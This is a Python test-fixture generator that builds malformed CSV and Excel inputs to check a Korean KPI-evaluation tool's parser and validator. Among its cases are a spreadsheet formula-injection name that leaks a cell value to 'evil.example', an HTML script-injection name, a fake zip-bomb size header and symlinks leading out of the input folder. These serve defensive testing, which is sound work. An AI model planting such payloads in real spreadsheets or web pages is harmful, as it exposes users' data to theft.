"""Build the bad-input catalogue ``tests/bad_inputs/cases/`` from the minimal valid fixture.

Every case starts from ``tests/data/io/minimal/`` (only the tables a case needs: the required
tables plus ``projects``, which the KPIs refer to) and changes one thing. The expected
problems of each case are written by hand in ``tests/bad_inputs/cases.yaml``; this script
only makes the inputs, deterministically (fixed workbook dates, sorted zip entries), so
``tests/test_bad_inputs.py`` can check that the committed files are what it produces.

Run from the repository root::

    .venv/bin/python tests/bad_inputs/make_cases.py          # rewrite tests/bad_inputs/cases/
    .venv/bin/python tests/bad_inputs/make_cases.py OUTDIR   # write OUTDIR/cases/ instead
"""

from __future__ import annotations

import csv
import datetime as dt
import io
import shutil
import sys
import zipfile
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path

import xlsxwriter
import yaml

HERE = Path(__file__).resolve().parent
REPO = HERE.parent.parent
MINIMAL = REPO / "tests" / "data" / "io" / "minimal"
SCHEME_2019 = REPO / "params" / "scheme-2019.yaml"
#: Tables every data case carries (the required ones, plus projects: kpis.project_id refers to it).
BASE = ("institutions", "departments", "projects", "kpis", "kpi_results")
#: Workbook creation date (also the zip entries' timestamps, so the bytes are reproducible).
CREATED = dt.datetime(2019, 2, 1, 9, 0, 0)
#: A department name that is a spreadsheet formula (formula-injection case).
INJECTION_NAME = '=HYPERLINK("http://evil.example/?leak="&A1,"클릭")'
#: A department name that is HTML/JavaScript (escaping case).
SCRIPT_NAME = "<script>alert(1)</script>"

Tables = dict[str, list[list[str]]]


# --------------------------------------------------------------------------- table helpers


def minimal(name: str) -> list[list[str]]:
    """One minimal table as rows of text (header first)."""
    with (MINIMAL / f"{name}.csv").open(encoding="utf-8", newline="") as fh:
        return [list(r) for r in csv.reader(fh)]


def base(*extra: str) -> Tables:
    """The :data:`BASE` tables plus ``extra`` ones, as text rows."""
    return {name: minimal(name) for name in (*BASE, *extra)}


def col(rows: list[list[str]], column: str) -> int:
    return rows[0].index(column)


def set_cell(rows: list[list], row: int, column: str, value) -> None:
    """Set the cell at spreadsheet ``row`` (1 = header, 2 = first data row) of ``column``."""
    rows[row - 1][col(rows, column)] = value


def rename(rows: list[list[str]], old: str, new: str) -> None:
    rows[0][col(rows, old)] = new


def drop(rows: list[list[str]], column: str) -> None:
    j = col(rows, column)
    for r in rows:
        del r[j]


def add_column(rows: list[list[str]], header: str, values: list[str]) -> None:
    rows[0].append(header)
    for r, v in zip(rows[1:], values, strict=True):
        r.append(v)


def csv_text(rows: list[list], delimiter: str = ",") -> str:
    buf = io.StringIO()
    csv.writer(buf, delimiter=delimiter, lineterminator="\n").writerows(rows)
    return buf.getvalue()


def write_folder(dest: Path, tables: Tables, encoding: str = "utf-8", names: dict[str, str] | None = None) -> None:
    """One CSV per table (``names`` renames files: ``{table: file name}``)."""
    dest.mkdir(parents=True)
    for table, rows in tables.items():
        name = (names or {}).get(table, f"{table}.csv")
        (dest / name).write_bytes(csv_text(rows).encode(encoding))


# --------------------------------------------------------------------------- workbook helpers


@dataclass(frozen=True)
class Formula:
    """A formula cell; ``cached`` is the value Excel stored (None: no cached value)."""

    text: str
    cached: float | str | None


@dataclass(frozen=True)
class Typed:
    """A cell written exactly as given (no typing by header)."""

    value: object


@dataclass(frozen=True)
class Date:
    """A date cell (an Excel serial date with a date format)."""

    value: dt.date


@dataclass(frozen=True)
class Percent:
    """A number shown with the ``0.0%`` format (stored as a fraction)."""

    value: float


_NUMERIC = {  # columns written as numbers in typed workbooks
    "year", "target", "actual", "weight", "band_low", "band_high", "score", "plan_status",
    "expense_disclosure", "training_completion", "survey_score", "misconduct_count", "acrc_score",
}
_BOOLEAN = {"consulting_participated", "is_core", "verified"}


def _typed(header: str, v):
    if not isinstance(v, str):
        return v
    if v == "":
        return None
    if header in _NUMERIC:
        try:
            f = float(v)
        except ValueError:
            return v
        return int(f) if f.is_integer() else f
    if header in _BOOLEAN and v.upper() in ("TRUE", "FALSE"):
        return v.upper() == "TRUE"
    return v


def workbook_bytes(sheets: dict[str, list[list]], typed: bool = True,
                   merges: dict[str, list[tuple[int, int, int, int, str]]] | None = None,
                   extra: Callable | None = None) -> bytes:
    """An .xlsx workbook with one sheet per entry (rows of cells), reproducible byte for byte.

    ``typed`` writes numeric/boolean columns (by English header) as numbers/booleans.
    ``merges`` = ``{sheet: [(first_row, first_col, last_row, last_col, text)]}`` (0-based).
    ``extra(workbook, {sheet: worksheet})`` is called last (hidden rows, filters, formats …).
    """
    buf = io.BytesIO()
    wb = xlsxwriter.Workbook(buf, {"in_memory": True, "strings_to_numbers": False,
                                   "strings_to_formulas": False, "strings_to_urls": False})
    wb.set_properties({"created": CREATED, "author": "bsc-workbench tests"})
    date_fmt = wb.add_format({"num_format": "yyyy-mm-dd"})
    pct_fmt = wb.add_format({"num_format": "0.0%"})
    merge_fmt = wb.add_format({"align": "center", "valign": "vcenter", "bold": True})
    for name, rows in sheets.items():
        ws = wb.add_worksheet(name)
        headers = rows[0] if rows else []
        for i, row in enumerate(rows):
            for j, v in enumerate(row):
                h = headers[j] if j < len(headers) and i > 0 else ""
                v = _typed(h, v) if typed and i > 0 else v
                if v is None or v == "":
                    continue
                if isinstance(v, Formula):
                    ws.write_formula(i, j, v.text, None, v.cached if v.cached is not None else 0)
                elif isinstance(v, Typed):
                    ws.write(i, j, v.value)
                elif isinstance(v, Date):
                    ws.write_datetime(i, j, dt.datetime.combine(v.value, dt.time()), date_fmt)
                elif isinstance(v, Percent):
                    ws.write_number(i, j, v.value, pct_fmt)
                elif isinstance(v, bool):
                    ws.write_boolean(i, j, v)
                elif isinstance(v, int | float):
                    ws.write_number(i, j, v)
                else:
                    ws.write_string(i, j, str(v))
        for r0, c0, r1, c1, text in (merges or {}).get(name, []):
            ws.merge_range(r0, c0, r1, c1, text, merge_fmt)
    if extra is not None:
        extra(wb, {ws.get_name(): ws for ws in wb.worksheets()})
    wb.close()
    data = buf.getvalue()
    uncached = [(name, i, j) for name, rows in sheets.items() for i, row in enumerate(rows)
                for j, v in enumerate(row) if isinstance(v, Formula) and v.cached is None]
    if uncached:
        data = _drop_cached_values(data, sheets, uncached)
    return data


def _drop_cached_values(data: bytes, sheets: dict[str, list[list]], cells: list[tuple[str, int, int]]) -> bytes:
    """Remove the ``<v>`` of the given formula cells (as a workbook saved without calculating)."""
    from openpyxl.utils import get_column_letter

    order = list(sheets)
    zin = zipfile.ZipFile(io.BytesIO(data))
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as zout:
        for info in zin.infolist():
            body = zin.read(info.filename)
            for name, i, j in cells:
                if info.filename == f"xl/worksheets/sheet{order.index(name) + 1}.xml":
                    ref = f'r="{get_column_letter(j + 1)}{i + 1}"'.encode()
                    start = body.index(ref)
                    end = body.index(b"</c>", start)
                    cell = body[start:end]
                    v0 = cell.index(b"<v>")
                    v1 = cell.index(b"</v>") + len(b"</v>")
                    body = body[:start] + cell[:v0] + cell[v1:] + body[end:]
            zi = zipfile.ZipInfo(info.filename, date_time=info.date_time)
            zi.compress_type = zipfile.ZIP_DEFLATED
            zi.external_attr = info.external_attr
            zout.writestr(zi, body)
    return out.getvalue()


# --------------------------------------------------------------------------- the cases

CASES: dict[str, Callable[[Path], None]] = {}


def case(fn: Callable[[Path], None]) -> Callable[[Path], None]:
    """Register a case builder; the case id is the function name."""
    CASES[fn.__name__] = fn
    return fn


def folder_case(edit: Callable[[Tables], None], *extra: str, encoding: str = "utf-8",
                names: dict[str, str] | None = None) -> Callable[[Path], None]:
    def build(dest: Path) -> None:
        t = base(*extra)
        edit(t)
        write_folder(dest, t, encoding=encoding, names=names)
    return build


def _reg(name: str, builder: Callable[[Path], None]) -> None:
    CASES[name] = builder


# ---- columns, headers, tables (CSV folder)

_reg("missing_column", folder_case(lambda t: drop(t["kpis"], "weight")))
_reg("extra_column", folder_case(lambda t: add_column(t["kpis"], "비고", ["", "확인 필요", "", "", ""])))
_reg("misspelled_column", folder_case(lambda t: rename(t["kpis"], "polarity", "polarty")))
_reg("duplicate_column", folder_case(lambda t: add_column(t["kpis"], "지표ID", ["K01", "K02", "K03", "K04", "K05"])))


def _mixed_headers(t: Tables) -> None:
    for old, new in (("kpi_id", "지표ID"), ("level", "수준"), ("name_ko", "지표명"), ("polarity", "극성"),
                     ("band_high", "구간 상한"), ("weight", "가중치(%)")):
        rename(t["kpis"], old, new)
    rename(t["kpi_results"], "target", "목표치")
    rename(t["kpi_results"], "verified", "Verified")


_reg("mixed_korean_english_headers_valid", folder_case(_mixed_headers))


def _missing_table(dest: Path) -> None:
    t = base()
    del t["kpi_results"]
    write_folder(dest, t)


_reg("missing_table", _missing_table)
_reg("misspelled_table", folder_case(lambda t: None, names={"departments": "departmens.csv"}))


def _duplicate_table(dest: Path) -> None:
    write_folder(dest, base())
    (dest / "성과지표.csv").write_text(csv_text(minimal("kpis")), encoding="utf-8")


_reg("duplicate_table", _duplicate_table)


def _empty_csv(dest: Path) -> None:
    write_folder(dest, base())
    (dest / "kpis.csv").write_bytes(b"")


_reg("empty_csv_file", _empty_csv)


def _blank_lines(dest: Path) -> None:
    write_folder(dest, base())
    (dest / "institutions.csv").write_text("\n  \n\t\n", encoding="utf-8")


_reg("blank_lines_only", _blank_lines)
_reg("header_only_table", folder_case(lambda t: t.__setitem__("kpi_results", t["kpi_results"][:1])))


def _ragged(t: Tables) -> None:
    t["departments"][2].append("추가 값")


_reg("ragged_row", folder_case(_ragged))


def _unclosed_quote(dest: Path) -> None:
    write_folder(dest, base())
    p = dest / "kpis.csv"
    p.write_text(p.read_text(encoding="utf-8").replace("처리 기간", '"처리 기간'), encoding="utf-8")


_reg("unclosed_quote", _unclosed_quote)


def _utf16_no_bom(dest: Path) -> None:
    write_folder(dest, base())
    p = dest / "departments.csv"
    p.write_bytes(p.read_text(encoding="utf-8").encode("utf-16-le"))


_reg("utf16_without_bom", _utf16_no_bom)


def _binary_csv(dest: Path) -> None:
    write_folder(dest, base())
    (dest / "kpi_results.csv").write_bytes(bytes(range(256)) * 4)


_reg("binary_file_named_csv", _binary_csv)


# ---- cells

_reg("not_a_number", folder_case(lambda t: set_cell(t["kpis"], 2, "weight", "sixty")))
_reg("bad_thousands_separator", folder_case(lambda t: set_cell(t["kpi_results"], 2, "target", "1,23")))
_reg("year_not_whole", folder_case(lambda t: set_cell(t["kpi_results"], 3, "year", "2019.5")))
_reg("not_a_boolean", folder_case(lambda t: set_cell(t["departments"], 3, "consulting_participated", "maybe")))


def _number_formats(t: Tables) -> None:
    r = t["kpi_results"]
    set_cell(r, 2, "target", "1,234")         # thousands separator
    set_cell(r, 2, "actual", "1,200.5")
    set_cell(r, 3, "actual", "12.5%")         # percent sign, kept in percent units
    set_cell(r, 4, "actual", "-")             # dash = missing
    set_cell(r, 5, "actual", "N/A")           # missing
    set_cell(r, 6, "target", "\uff17\uff15")  # full-width ７５
    set_cell(r, 7, "target", "\u22125")       # Unicode minus −5
    set_cell(r, 8, "actual", " 99.7 ")        # spaces
    set_cell(r, 9, "year", "２０１９")         # full-width year
    set_cell(r, 10, "target", "1e2")          # exponent


_reg("number_formats_valid", folder_case(_number_formats))


def _inf(t: Tables) -> None:
    set_cell(t["kpi_results"], 2, "actual", "inf")
    set_cell(t["kpi_results"], 3, "actual", "1e400")


_reg("infinite_numbers", folder_case(_inf))
_reg("missing_required_value", folder_case(lambda t: set_cell(t["kpis"], 3, "name_ko", "  ")))
_reg("unknown_polarity", folder_case(lambda t: set_cell(t["kpis"], 2, "polarity", "sideways")))


def _korean_codes(t: Tables) -> None:
    k = t["kpis"]
    for row, pol in ((2, "상향"), (3, "하향형"), (4, "목표 구간")):
        set_cell(k, row, "polarity", pol)
    set_cell(k, 2, "level", "부서")
    set_cell(k, 2, "kpi_type", "결과")
    set_cell(t["kpi_results"], 2, "half", "상반기")
    set_cell(t["kpi_results"], 3, "half", "하반기")
    set_cell(t["kpi_results"], 2, "verified", "예")
    set_cell(t["kpi_results"], 5, "verified", "아니오")
    set_cell(t["institutions"], 3, "inst_type", "사업소")


_reg("korean_codes_valid", folder_case(_korean_codes))
_reg("year_out_of_range", folder_case(lambda t: set_cell(t["kpi_results"], 4, "year", "20190")))
_reg("very_long_name", folder_case(lambda t: set_cell(t["departments"], 3, "name_ko", "가" * 100_000)))
_reg("long_name_at_limit_valid", folder_case(lambda t: set_cell(t["departments"], 3, "name_ko", "나" * 1000)))


# ---- keys and cross-table rules


def _dup_id(t: Tables) -> None:
    t["departments"].append(list(t["departments"][1]))


_reg("duplicate_id", folder_case(_dup_id))


def _dup_result(t: Tables) -> None:
    row = list(t["kpi_results"][1])
    t["kpi_results"].append(row)


_reg("duplicate_result_key", folder_case(_dup_result))


def _dangling(t: Tables) -> None:
    set_cell(t["kpis"], 2, "owner_id", "D999")
    set_cell(t["kpis"], 3, "owner_id", "D999")


_reg("dangling_foreign_key", folder_case(_dangling))
_reg("weights_not_100", folder_case(lambda t: set_cell(t["kpis"], 2, "weight", "50")))


def _zero_neg(t: Tables) -> None:
    set_cell(t["kpi_results"], 2, "target", "0")
    set_cell(t["kpi_results"], 4, "target", "-5")
    set_cell(t["kpi_results"], 4, "actual", "-7.5")


_reg("zero_and_negative_targets_valid", folder_case(_zero_neg))


def _band_no_limits(t: Tables) -> None:
    set_cell(t["kpis"], 4, "band_low", "")
    set_cell(t["kpis"], 4, "band_high", "")


_reg("band_without_limits", folder_case(_band_no_limits))


def _band_inverted(t: Tables) -> None:
    set_cell(t["kpis"], 4, "band_low", "60")
    set_cell(t["kpis"], 4, "band_high", "40")


_reg("band_limits_inverted", folder_case(_band_inverted))
_reg("kpi_level_mismatch", folder_case(lambda t: set_cell(t["kpis"], 5, "level", "institution")))
_reg("rating_out_of_scale", folder_case(lambda t: set_cell(t["qualitative_ratings"], 3, "score", "120"),
                                        "qualitative_ratings"))
_reg("unknown_rating_item", folder_case(lambda t: set_cell(t["pre_eval_ratings"], 2, "item", "charisma"),
                                        "pre_eval_ratings"))
_reg("cooperation_above_points", folder_case(lambda t: set_cell(t["cooperation_scores"], 2, "score", "4"),
                                             "cooperation_scores"))
_reg("cooperation_negative", folder_case(lambda t: set_cell(t["cooperation_scores"], 3, "score", "-1"),
                                         "cooperation_scores"))


def _perspective(t: Tables) -> None:
    set_cell(t["strategic_goals"], 2, "perspective", "고객")
    set_cell(t["strategic_goals"], 2, "city_goal_id", "")


_reg("unknown_perspective", folder_case(_perspective, "strategic_goals"))
_reg("integrity_above_100", folder_case(lambda t: set_cell(t["integrity"], 3, "plan_status", "120"), "integrity"))


# ---- encodings (valid: must load)

_reg("encoding_cp949_valid", folder_case(lambda t: None, encoding="cp949"))
_reg("encoding_euc_kr_valid", folder_case(lambda t: None, encoding="euc_kr"))
_reg("encoding_utf8_bom_valid", folder_case(lambda t: None, encoding="utf-8-sig"))
_reg("encoding_utf16_valid", folder_case(lambda t: None, encoding="utf-16"))


# ---- plan form: a two-row header with a merged "실 적 치" over the years

PLAN_YEARS = ("2015", "2016", "2017", "2018")
#: kpi_history in the plan form: 지표ID merged over both header rows, 실 적 치 over the years.
PLAN_HISTORY = [
    ["지표ID", "실 적 치", "", "", ""],
    ["", *PLAN_YEARS],
    ["K01", "", "", "80", "85.5"],
    ["K02", "15", "14", "12.5", "11"],
    ["K04", "98", "", "", ""],
]
PLAN_MERGES = [(0, 0, 1, 0, "지표ID"), (0, 1, 0, 4, "실 적 치")]


def _plan_rows(typed: bool) -> list[list]:
    rows = [list(r) for r in PLAN_HISTORY]
    if typed:
        rows[1] = ["", *(int(y) for y in PLAN_YEARS)]
        rows[2:] = [[r[0], *(float(v) if v else "" for v in r[1:])] for r in rows[2:]]
    return rows


def _base_sheets(*extra: str) -> dict[str, list[list]]:
    return {name: rows for name, rows in base(*extra).items()}


@case
def plan_form_two_row_header_valid(dest: Path) -> None:
    sheets = _base_sheets()
    sheets["지표실적이력"] = _plan_rows(typed=True)
    dest.with_suffix(".xlsx").write_bytes(workbook_bytes(sheets, merges={"지표실적이력": PLAN_MERGES}))


@case
def plan_form_two_row_header_csv_valid(dest: Path) -> None:
    t = base()
    t["kpi_history"] = [list(r) for r in PLAN_HISTORY]
    write_folder(dest, t)


@case
def plan_form_bad_cell(dest: Path) -> None:
    sheets = _base_sheets()
    rows = _plan_rows(typed=True)
    rows[3][3] = "12,5"  # K02, 2017: a decimal comma
    sheets["지표실적이력"] = rows
    dest.with_suffix(".xlsx").write_bytes(workbook_bytes(sheets, merges={"지표실적이력": PLAN_MERGES}))


@case
def plan_form_years_in_kpis_sheet(dest: Path) -> None:
    sheets = _base_sheets()
    k = [list(r) for r in sheets["kpis"]]
    top = [*k[0], "실 적 치", "", "", ""]
    sub = [""] * len(k[0]) + list(PLAN_YEARS)
    body = [[*r, "", "", "", ""] for r in k[1:]]
    sheets["kpis"] = [top, sub, *body]
    n = len(k[0])
    merges = [(0, j, 1, j, k[0][j]) for j in range(n)] + [(0, n, 0, n + 3, "실 적 치")]
    dest.with_suffix(".xlsx").write_bytes(workbook_bytes(sheets, merges={"kpis": merges}))


# ---- workbooks


@case
def xlsx_valid(dest: Path) -> None:
    dest.with_suffix(".xlsx").write_bytes(workbook_bytes(_base_sheets()))


@case
def xlsx_missing_sheet(dest: Path) -> None:
    sheets = _base_sheets()
    del sheets["kpis"]
    sheets["README"] = [["이 통합문서는 시험용입니다 (test workbook)."]]
    dest.with_suffix(".xlsx").write_bytes(workbook_bytes(sheets))


@case
def xlsx_misspelled_sheet(dest: Path) -> None:
    sheets = _base_sheets()
    sheets = {("kpi" if k == "kpis" else k): v for k, v in sheets.items()}
    dest.with_suffix(".xlsx").write_bytes(workbook_bytes(sheets))


@case
def xlsx_empty_sheet(dest: Path) -> None:
    sheets = _base_sheets()
    sheets["kpis"] = []
    dest.with_suffix(".xlsx").write_bytes(workbook_bytes(sheets))


@case
def xlsx_date_in_number_column(dest: Path) -> None:
    sheets = _base_sheets()
    set_cell(sheets["kpi_results"], 3, "target", Date(dt.date(2019, 9, 30)))
    dest.with_suffix(".xlsx").write_bytes(workbook_bytes(sheets))


@case
def xlsx_formula_cached_valid(dest: Path) -> None:
    sheets = _base_sheets()
    set_cell(sheets["kpis"], 2, "weight", Formula("=100-40", 60))
    set_cell(sheets["kpi_results"], 2, "target", Formula("=45*2", 90))
    dest.with_suffix(".xlsx").write_bytes(workbook_bytes(sheets))


@case
def xlsx_formula_without_cached_value(dest: Path) -> None:
    sheets = _base_sheets()
    set_cell(sheets["kpi_results"], 2, "actual", Formula("=SUM(H2:H3)", None))
    dest.with_suffix(".xlsx").write_bytes(workbook_bytes(sheets))


@case
def xlsx_percent_format_valid(dest: Path) -> None:
    sheets = _base_sheets()
    set_cell(sheets["kpi_results"], 2, "actual", Percent(0.125))
    dest.with_suffix(".xlsx").write_bytes(workbook_bytes(sheets))


@case
def xlsx_header_below_title_valid(dest: Path) -> None:
    sheets = _base_sheets()
    k = sheets["kpis"]
    sheets["kpis"] = [["2019년 성과지표 (제출용)"], [], k[0], [], *k[1:3], [], *k[3:]]
    dest.with_suffix(".xlsx").write_bytes(workbook_bytes(sheets))


@case
def xlsx_empty_file(dest: Path) -> None:
    dest.with_suffix(".xlsx").write_bytes(b"")


@case
def xlsx_text_file(dest: Path) -> None:
    dest.with_suffix(".xlsx").write_text(csv_text(minimal("kpis")), encoding="utf-8")


@case
def xlsx_password_protected(dest: Path) -> None:
    # Excel saves an encrypted workbook as an OLE2 compound file (EncryptionInfo and
    # EncryptedPackage streams) whatever the extension: the reader only needs its signature.
    header = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(16) + b"\x3e\x00\x03\x00\xfe\xff\x09\x00"
    dest.with_suffix(".xlsx").write_bytes(header + bytes(512 - len(header)) + "EncryptedPackage".encode("utf-16-le"))


@case
def xlsx_truncated(dest: Path) -> None:
    data = workbook_bytes(_base_sheets())
    dest.with_suffix(".xlsx").write_bytes(data[: len(data) // 2])


@case
def xlsx_zip_not_workbook(dest: Path) -> None:
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w") as z:
        z.writestr(zipfile.ZipInfo("readme.txt", date_time=CREATED.timetuple()[:6]), "not a workbook")
    dest.with_suffix(".xlsx").write_bytes(buf.getvalue())


@case
def old_xls_file(dest: Path) -> None:
    dest.with_suffix(".xls").write_bytes(b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(504))


# ---- names that must be neutralised / escaped downstream (valid: must load)

_reg("formula_injection_name_valid", folder_case(lambda t: set_cell(t["departments"], 3, "name_ko", INJECTION_NAME)))
_reg("script_name_valid", folder_case(lambda t: set_cell(t["departments"], 2, "name_ko", SCRIPT_NAME)))


# ---- real exports: invisible characters, Excel's leftovers, links, merged cells, Korean layouts

ZWSP, NBSP, BOM = "\u200b", "\u00a0", "\ufeff"


def _zero_width_duplicate(t: Tables) -> None:
    # the same department pasted from a web page: its id ends with a zero-width space
    t["departments"].append(["D001" + ZWSP, "I01", "평가협업담당관", "", "TRUE"])


_reg("zero_width_duplicate_department", folder_case(_zero_width_duplicate))
_reg("interior_zero_width_reference", folder_case(lambda t: set_cell(t["kpis"], 4, "owner_id", "D0" + ZWSP + "02")))
_reg("header_zero_width_valid", folder_case(lambda t: (rename(t["kpis"], "weight", "weight" + ZWSP),
                                                       rename(t["kpi_results"], "kpi_id", ZWSP + "지표ID"))))


def _line_break_headers(t: Tables) -> None:
    rename(t["kpi_results"], "target", "목표치\n(단위)")   # Alt+Enter in the header cell
    rename(t["kpi_results"], "actual", "실적치\r\n(단위)")
    rename(t["kpis"], "weight", "가중치\n(%)")


_reg("header_line_break_valid", folder_case(_line_break_headers))


def _lock_files(dest: Path) -> None:
    write_folder(dest, base())
    # Excel's owner file while kpis.csv is open: 162 bytes, the user's name at the start
    owner = b"\x08" + "평가담당".encode("utf-16-le").ljust(108, b" ") + bytes(53)
    (dest / "~$kpis.csv").write_bytes(owner)
    (dest / ".~lock.kpi_results.csv#").write_text(",평가담당,pc01,05.12.2026 09:00,file:///C:/\n", encoding="utf-8")


_reg("excel_lock_files_valid", _lock_files)


def _broken_link(dest: Path) -> None:
    t = base()
    del t["departments"]
    write_folder(dest, t)
    (dest / "departments.csv").symlink_to("../../exports/departments.csv")


_reg("broken_link", _broken_link)


def _link_outside(dest: Path) -> None:
    t = base()
    del t["departments"]
    write_folder(dest, t)
    # a link that leaves the input folder (here to the fixture, which would even be valid)
    (dest / "departments.csv").symlink_to("../../../data/io/minimal/departments.csv")


_reg("link_outside_folder", _link_outside)


def _link_inside(dest: Path) -> None:
    t = base()
    kpis = t.pop("kpis")
    write_folder(dest, t)
    (dest / "exports").mkdir()
    (dest / "exports" / "kpis_20190201.csv").write_text(csv_text(kpis), encoding="utf-8")
    (dest / "kpis.csv").symlink_to("exports/kpis_20190201.csv")


_reg("link_inside_folder_valid", _link_inside)


def _nbsp_references(t: Tables) -> None:
    set_cell(t["kpis"], 2, "owner_id", "D001" + NBSP)          # copied from a web page
    set_cell(t["kpi_results"], 3, "kpi_id", NBSP + "K01")
    set_cell(t["projects"], 2, "department_id", "D001" + BOM)


_reg("nbsp_references_valid", folder_case(_nbsp_references))


def _double_bom(dest: Path) -> None:
    write_folder(dest, base())
    p = dest / "institutions.csv"
    p.write_bytes(b"\xef\xbb\xbf" + p.read_text(encoding="utf-8").encode("utf-8-sig"))  # saved twice


_reg("double_bom_header_valid", _double_bom)


def _fullwidth_clash(t: Tables) -> None:
    set_cell(t["kpi_results"], 3, "kpi_id", "\uff2b01")  # Ｋ01 typed in full-width mode


_reg("fullwidth_id_clash", folder_case(_fullwidth_clash))


def _codes_with_invisible(t: Tables) -> None:
    set_cell(t["kpis"], 2, "polarity", "상향" + ZWSP)
    set_cell(t["kpis"], 3, "level", NBSP + "부서")
    set_cell(t["kpi_results"], 2, "half", "상반기" + BOM)
    set_cell(t["kpi_results"], 2, "target", "90" + ZWSP)


_reg("invisible_characters_in_codes_valid", folder_case(_codes_with_invisible))


def _middle_dots(t: Tables) -> None:
    set_cell(t["institutions"], 2, "inst_type", "본청(실\u30fb본부\u30fb국)")  # katakana middle dot
    set_cell(t["kpis"], 6, "level", "실\uff65본부\uff65국")                  # half-width katakana dot
    set_cell(t["kpis"], 2, "level", "과\u00b7담당관")
    rename(t["institutions"], "inst_type", "기관\u318d유형")


_reg("middle_dot_variants_valid", folder_case(_middle_dots))


def _csv_formula_errors(t: Tables) -> None:
    set_cell(t["kpi_results"], 3, "actual", "#DIV/0!")   # a CSV saved from a sheet with broken formulas
    set_cell(t["kpi_results"], 6, "target", "#VALUE!")
    set_cell(t["kpis"], 3, "project_id", "#N/A")


_reg("csv_formula_errors", folder_case(_csv_formula_errors))


def _total_row(t: Tables) -> None:
    t["kpis"].append(["합계", "", "", "", "", "", "", "", "", "", "400"])
    t["kpi_results"].append(["합 계", "", "", "", "", ""])


_reg("total_row_valid", folder_case(_total_row))


def _notes_csv(t: Tables) -> None:
    t["kpis"] += [[], ["※ 자료: 기획조정실 평가담당관 (2019. 2.)"], ["주) 가중치는 소관부서별 합계 100"]]


_reg("notes_under_table_csv_valid", folder_case(_notes_csv))


@case
def xlsx_strict_open_xml(dest: Path) -> None:
    data = workbook_bytes(_base_sheets())
    zin = zipfile.ZipFile(io.BytesIO(data))
    out = io.BytesIO()
    swaps = [(b"http://schemas.openxmlformats.org/spreadsheetml/2006/main",
              b"http://purl.oclc.org/ooxml/spreadsheetml/main"),
             (b"http://schemas.openxmlformats.org/officeDocument/2006/relationships",
              b"http://purl.oclc.org/ooxml/officeDocument/relationships")]
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as zout:
        for info in zin.infolist():
            body = zin.read(info.filename)
            for a, b in swaps:
                body = body.replace(a, b)
            if info.filename == "xl/workbook.xml":
                body = body.replace(b"<workbook ", b'<workbook conformance="strict" ', 1)
            zi = zipfile.ZipInfo(info.filename, date_time=info.date_time)
            zi.compress_type = zipfile.ZIP_DEFLATED
            zout.writestr(zi, body)
    dest.with_suffix(".xlsx").write_bytes(out.getvalue())


@case
def xlsx_too_large(dest: Path) -> None:
    # a zip bomb's signature: the directory says a sheet unpacks to 4 GB
    data = bytearray(workbook_bytes(_base_sheets()))
    name = b"xl/worksheets/sheet1.xml"
    cd = data.index(b"PK\x01\x02")
    while True:
        n = int.from_bytes(data[cd + 28:cd + 30], "little")
        if data[cd + 46:cd + 46 + n] == name:
            data[cd + 24:cd + 28] = (4_000_000_000).to_bytes(4, "little")
            break
        cd = data.index(b"PK\x01\x02", cd + 4)
    dest.with_suffix(".xlsx").write_bytes(bytes(data))


@case
def xlsx_too_many_columns(dest: Path) -> None:
    sheets = _base_sheets()
    sheets["kpis"][3] += [""] * 1200 + ["x"]  # a stray value in column AUM
    dest.with_suffix(".xlsx").write_bytes(workbook_bytes(sheets))


def _formatted_empty_rows(wb, ws) -> None:
    fill = wb.add_format({"bg_color": "#FFF2CC", "border": 1})
    for r in range(6, 10_006):  # a block selected down to row 10,006 and given a fill and borders
        ws["kpis"].set_row(r, None, fill)
        for c in range(11):
            ws["kpis"].write_blank(r, c, None, fill)


@case
def xlsx_formatted_empty_rows_valid(dest: Path) -> None:
    dest.with_suffix(".xlsx").write_bytes(workbook_bytes(_base_sheets(), extra=_formatted_empty_rows))


@case
def xlsx_formula_errors(dest: Path) -> None:
    sheets = _base_sheets()
    set_cell(sheets["kpi_results"], 3, "actual", Formula("=E2/0", "#DIV/0!"))
    set_cell(sheets["kpi_results"], 5, "target", Formula("=#REF!*2", "#REF!"))
    set_cell(sheets["kpis"], 4, "weight", Formula('=K2+"점"', "#VALUE!"))
    dest.with_suffix(".xlsx").write_bytes(workbook_bytes(sheets))


@case
def xlsx_formula_na_lookup(dest: Path) -> None:
    sheets = _base_sheets()
    set_cell(sheets["kpis"], 6, "owner_id", Formula("=VLOOKUP(E6,부서!C:D,2,FALSE)", "#N/A"))
    set_cell(sheets["kpi_results"], 4, "actual", Formula("=INDEX(실적!B:B,MATCH(A4,실적!A:A,0))", "#N/A"))
    dest.with_suffix(".xlsx").write_bytes(workbook_bytes(sheets))


def _kpis_merged_projects() -> list[list]:
    k = [list(r) for r in minimal("kpis")]
    k[2][3] = ""  # K02's project comes from the merged cell over K01-K02
    return k


@case
def merged_project_cells_valid(dest: Path) -> None:
    sheets = _base_sheets()
    sheets["kpis"] = _kpis_merged_projects()
    # 사업 (project_id, column D) merged over K01 and K02 (rows 2-3), 소관 (owner_id, B) too
    sheets["kpis"][2][1] = ""
    merges = {"kpis": [(1, 3, 2, 3, "P01"), (1, 1, 2, 1, "D001")]}
    dest.with_suffix(".xlsx").write_bytes(workbook_bytes(sheets, merges=merges))


@case
def merged_weight_cells(dest: Path) -> None:
    sheets = _base_sheets()
    sheets["kpis"][2][10] = ""
    # 가중치 (weight, column K) merged over K01 and K02: 100 for both, or 100 each?
    dest.with_suffix(".xlsx").write_bytes(workbook_bytes(sheets, merges={"kpis": [(1, 10, 2, 10, 100)]}))


@case
def merged_across_columns(dest: Path) -> None:
    sheets = _base_sheets()
    sheets["kpis"][4][5] = ""
    # 지표명 and 단위 (name_ko E, unit F) merged on K04's row
    dest.with_suffix(".xlsx").write_bytes(workbook_bytes(sheets, merges={"kpis": [(4, 4, 4, 5, "수질 적합률 (%)")]}))


@case
def merged_header_over_two_columns_valid(dest: Path) -> None:
    sheets = _base_sheets()
    d = sheets["departments"]
    # 부서명 spans columns C:D (header and every row merged), the rest moves one column right
    rows = [[*r[:3], "", *r[3:]] for r in d]
    sheets["departments"] = rows
    merges = [(i, 2, i, 3, rows[i][2]) for i in range(len(rows))]
    dest.with_suffix(".xlsx").write_bytes(workbook_bytes(sheets, merges={"departments": merges}))


@case
